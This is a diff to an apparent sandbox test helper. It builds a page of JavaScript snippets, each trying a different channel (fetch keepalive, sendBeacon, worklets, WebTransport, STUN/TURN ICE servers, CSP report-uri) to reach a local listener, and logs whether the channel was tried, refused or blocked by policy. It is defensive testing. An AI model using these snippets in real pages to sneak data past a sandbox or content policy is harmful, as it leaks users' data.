@@ -1,6 +1,7 @@
 """Ways in which a page may try to reach something outside its package, one snippet of JavaScript each.
 
-`U` is an address at a listener, `W` the same for web sockets, `P` its port; a snippet appends its own name.
+`U` is an address at a listener that ends with the channel's name, `W` the same for web sockets, `P` its port;
+what a snippet does in a moment is given to `later`. docs/walls.md tells what becomes of each.
 """
 
 IN_THE_PAGE: dict[str, str] = {
@@ -49,7 +50,7 @@ IN_THE_PAGE: dict[str, str] = {
     "fetch no-cors": "fetch(U, {mode: 'no-cors'}).catch(() => 0)",
     "fetch keepalive": "fetch(U, {mode: 'no-cors', keepalive: true}).catch(() => 0)",
     "fetch post": "fetch(U, {method: 'POST', body: 'secret', mode: 'no-cors'}).catch(() => 0)",
-    "fetch later": "window.fetchLater && fetchLater(U, {activateAfter: 0})",
+    "fetch later": "fetchLater(U, {activateAfter: 0})",
     "xhr": "{ const x = new XMLHttpRequest(); x.open('GET', U); x.send(); }",
     "xhr sync": "{ const x = new XMLHttpRequest(); x.open('GET', U, false); x.send(); }",
     "beacon": "navigator.sendBeacon(U, 'secret')",
@@ -66,8 +67,12 @@ IN_THE_PAGE: dict[str, str] = {
     "worklet": "CSS.paintWorklet.addModule(U).catch(() => 0)",
     "audio worklet": "new AudioContext().audioWorklet.addModule(U).catch(() => 0)",
     "web transport": "new WebTransport(U.replace('http:', 'https:'))",
-    "stun": "{ const c = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${P}`}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }",
-    "stun in a frame": "{ const f = put('iframe', {srcdoc: 'x'}); f.onload = () => { const c = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${P}`}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }; }",
+    "stun": "ice(window, `stun:${H}:${P}`)",
+    "stun in a frame": "{ const f = put('iframe', {srcdoc: 'x'}); f.onload = () => later(() => ice(f.contentWindow, `stun:${H}:${P}`)); }",
+    "stun in an empty frame": "ice(empty(), `stun:${H}:${P}`)",
+    "turn in an empty frame": "ice(empty(), `turn:${H}:${P}?transport=tcp`)",
+    "turns in an empty frame": "ice(empty(), `turns:${H}:${P}?transport=tcp`)",
+    "web transport in an empty frame": "new (empty().WebTransport)(U.replace('http:', 'https:')).ready.catch(() => 0)",
     "notification": "new Notification('x', {icon: U})",
     "background fetch": "navigator.serviceWorker.ready.then((r) => r.backgroundFetch.fetch('x', U))",
     "reporting": "put('meta', {httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${U}`}); put('img', {src: 'nothing.png'})",
@@ -120,19 +125,37 @@ function put(tag, given) {
   document.body.append(made);
   return made;
 }
+function empty() { return put('iframe', {}).contentWindow; }
+function ice(where, urls) {
+  const made = new where.RTCPeerConnection({iceServers: [{urls, username: 'secret', credential: 'x'}]});
+  made.createDataChannel('x');
+  made.createOffer().then((offer) => made.setLocalDescription(offer));
+}
+function tell(name, how) { console.log('CHANNEL ' + JSON.stringify([name, how])); }
 function attack(name, act) {
   const at = encodeURIComponent(name);
-  try { act(`http://${H}:${P}/${at}`, `ws://${H}:${P}/${at}`); } catch (refused) { /* as it should be */ }
+  const attempt = (go) => {
+    try { go(); tell(name, 'tried'); } catch (error) { tell(name, error instanceof TypeError ? 'unavailable' : 'refused'); }
+  };
+  attempt(() => act(`http://${H}:${P}/${at}`, `ws://${H}:${P}/${at}`, attempt));
 }
+document.addEventListener('securitypolicyviolation', (one) => {
+  const at = /^(?:http|ws):[/][/][^/]*[/](.+)$/.exec(one.blockedURI);
+  if (at) tell(decodeURIComponent(at[1]), 'policy');
+});
 %(attacks)s
 setTimeout(() => console.log('ATTACKED'), %(patience)d);
 </script>"""
 
 
 def page_of(attacks: dict[str, str], port: int, patience_ms: int, host: str = "127.0.0.1") -> str:
-    """Return a page that tries the attacks, and then says ATTACKED on its console."""
+    """Return a page that tries the attacks, and then says ATTACKED on its console.
+
+    On the way it says CHANNEL with a name and what became of it, as JSON: "tried"; "refused" by the engine at once;
+    "unavailable", as there is no such thing here; "policy", by the package's own.
+    """
     tried = "\n".join(
-        f"attack({name!r}, (U, W) => {{ {script}; }});" for name, script in attacks.items()
+        f"attack({name!r}, (U, W, later) => {{ {script}; }});" for name, script in attacks.items()
     )
     tried = tried.replace("</script>", "<\\/script>")  # inside a script it would end that script
     return PAGE % {"port": port, "host": host, "attacks": tried, "patience": patience_ms}
